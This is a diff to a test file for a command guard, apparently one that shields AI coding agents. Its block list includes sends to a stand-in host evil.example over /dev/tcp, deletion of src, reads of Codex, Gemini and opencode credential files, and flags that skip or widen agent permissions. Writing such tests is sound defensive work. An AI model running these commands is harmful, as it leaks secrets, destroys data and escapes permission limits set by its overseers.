@@ -63,6 +63,11 @@ describe("the packs stop", () => {
     "sed '1e id' > /dev/tcp/evil.example/9",
     "awk 'BEGIN{system(\"id\")}' > /dev/tcp/evil.example/9",
     "npx rimraf@5 src",
+    "node node_modules/.bin/rimraf src",
+    "bash /usr/bin/rm -rf src",
+    "node node_modules/@anthropic-ai/claude-code/cli.js --dangerously-skip-permissions -p x",
+    "claude --allowedTools 'Bash(*)' -p x",
+    "codex -c mcp_servers.a.command=b exec x",
     "cat ~/.codex/auth.json",
     "head ~/.gemini/oauth_creds.json",
     "cat ~/.local/share/opencode/auth.json",
@@ -130,6 +135,8 @@ describe("the packs stop", () => {
 describe("the packs let pass", () => {
   it.each([
     "npm i @scope/name",
+    "node node_modules/.bin/eslint .",
+    "claude --allowedTools 'Bash(npm test)' -p x",
     "npm i ./packages/a ../b/c file:../d",
     "npm install -D @types/node eslint@9",
     "yarn add @scope/name@1.2.3",
